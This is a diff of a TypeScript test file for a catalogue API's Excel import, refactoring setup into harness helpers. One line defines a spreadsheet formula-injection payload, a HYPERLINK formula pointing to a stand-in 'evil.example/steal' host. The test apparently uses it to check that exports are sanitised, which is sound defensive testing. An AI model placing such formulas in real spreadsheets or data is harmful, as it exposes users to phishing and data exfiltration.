@@ -2,12 +2,12 @@ import { deflateRawSync, inflateRawSync } from 'node:zlib';
 import { eq, sql } from 'drizzle-orm';
 import ExcelJS from 'exceljs';
 import { beforeAll, describe, expect, it } from 'vitest';
-import { categories, productImages, products } from '~/db/schema';
+import { productImages, products } from '~/db/schema';
 import type { ProductView } from '~/domain/catalogue';
 import { messages } from '~/domain/messages';
 import { EXCEL_COLUMNS } from '../../services/catalogue/excel';
 import { readCentralDirectory } from '../../services/shared/zip-guard';
-import { openStaffedContext } from '../../test/harness';
+import { getJson, insertCategory, openStaffedContext } from '../../test/harness';
 
 const { ctx, admin, staff } = await openStaffedContext();
 let laptops = 0;
@@ -20,18 +20,14 @@ async function create(fields: Record<string, string | number>): Promise<ProductV
   return (await response.json()) as ProductView;
 }
 
+const printer = (name: string, brand: string, price: string, stock: number) =>
+  create({ name, brand, price, stock, category: printers });
+
 const INJECTED = '=HYPERLINK("http://evil.example/steal","Click me")';
 
 beforeAll(async () => {
-  const rows = await ctx.db
-    .insert(categories)
-    .values([
-      { name: 'Laptops', slug: 'laptops' },
-      { name: 'Printers', slug: 'printers' },
-    ])
-    .returning();
-  laptops = rows[0]!.id;
-  printers = rows[1]!.id;
+  laptops = await insertCategory(ctx, 'Laptops', 'laptops');
+  printers = await insertCategory(ctx, 'Printers', 'printers');
   made.ideapad = await create({
     name: 'Lenovo IdeaPad Slim 3',
     brand: 'Lenovo',
@@ -279,9 +275,7 @@ describe('POST /api/products/import-excel/', () => {
       dry_run: false,
     });
 
-    const updated = (await (
-      await ctx.request('GET', `/api/products/id/${made.ideapad!.id}/`)
-    ).json()) as ProductView;
+    const updated = await getJson<ProductView>(ctx, `/api/products/id/${made.ideapad!.id}/`);
     expect(updated).toMatchObject({
       price: '44999.99',
       discounted_price: '42999.50',
@@ -291,9 +285,7 @@ describe('POST /api/products/import-excel/', () => {
       key_features: 'Thin\nLight',
     });
     expect(updated.images).toHaveLength(1);
-    const created = (await (
-      await ctx.request('GET', '/api/products/epson-ecotank-l3210/')
-    ).json()) as ProductView;
+    const created = await getJson<ProductView>(ctx, '/api/products/epson-ecotank-l3210/');
     expect(created).toMatchObject({
       brand: 'Epson',
       price: '9999.00',
@@ -455,13 +447,7 @@ describe('POST /api/products/import-excel/', () => {
 
 describe('import order', () => {
   it('renames a product and reuses its old name for a new row in the same file', async () => {
-    const alpha = await create({
-      name: 'Alpha Toner 101',
-      brand: 'HP',
-      price: '1500',
-      stock: 3,
-      category: printers,
-    });
+    const alpha = await printer('Alpha Toner 101', 'HP', '1500', 3);
     const file = await workbookBuffer([
       row({ id: alpha.id, name: 'Beta Toner 102' }),
       row({ name: 'Alpha Toner 101', category: 'Printers', brand: 'HP', price: '1600', stock: 2 }),
@@ -474,20 +460,8 @@ describe('import order', () => {
   });
 
   it('answers 400, writing nothing, when two rows swap names', async () => {
-    const first = await create({
-      name: 'Swap Ink One',
-      brand: 'Epson',
-      price: '500',
-      stock: 1,
-      category: printers,
-    });
-    const second = await create({
-      name: 'Swap Ink Two',
-      brand: 'Epson',
-      price: '500',
-      stock: 1,
-      category: printers,
-    });
+    const first = await printer('Swap Ink One', 'Epson', '500', 1);
+    const second = await printer('Swap Ink Two', 'Epson', '500', 1);
     const file = await workbookBuffer([
       row({ id: first.id, name: 'Swap Ink Two' }),
       row({ id: second.id, name: 'Swap Ink One' }),
